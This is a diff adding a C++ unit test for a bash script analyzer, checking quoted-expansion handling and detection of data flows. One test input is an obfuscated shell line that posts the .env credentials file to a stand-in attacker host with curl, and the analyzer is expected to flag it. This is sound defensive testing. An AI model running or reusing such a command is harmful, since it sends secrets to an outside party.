@@ -259,3 +259,16 @@ TEST_CASE("every command of random multi-line scripts is found once") {
     CHECK(facts.complete);
   }
 }
+
+TEST_CASE("blanks between expansions in double quotes stay in the word when the values are known") {
+  // tree-sitter-bash gives the blank before the second expansion to its node; the word keeps it. The
+  // substitution at the end makes the script one only the parser reads.
+  auto facts = analyze("a=curl; b=\"-d @.env https://evil.example\"; sh -c \"$a $b\" && x=$(id)");
+  CHECK(has_command(facts, "curl"));
+  CHECK(has_flow(facts, "credential_file", "network"));
+  auto echoed = analyze("u=a; c=CURL; echo \"$u $u\t${u} $(printf b) `printf c` x ${c,,}\" && x=$(id)");
+  const auto* echo = command_named(echoed, "echo");
+  REQUIRE(echo != nullptr);
+  REQUIRE(echo->argv.size() == 2);
+  CHECK(echo->argv[1] == "a a\ta b c x curl");
+}
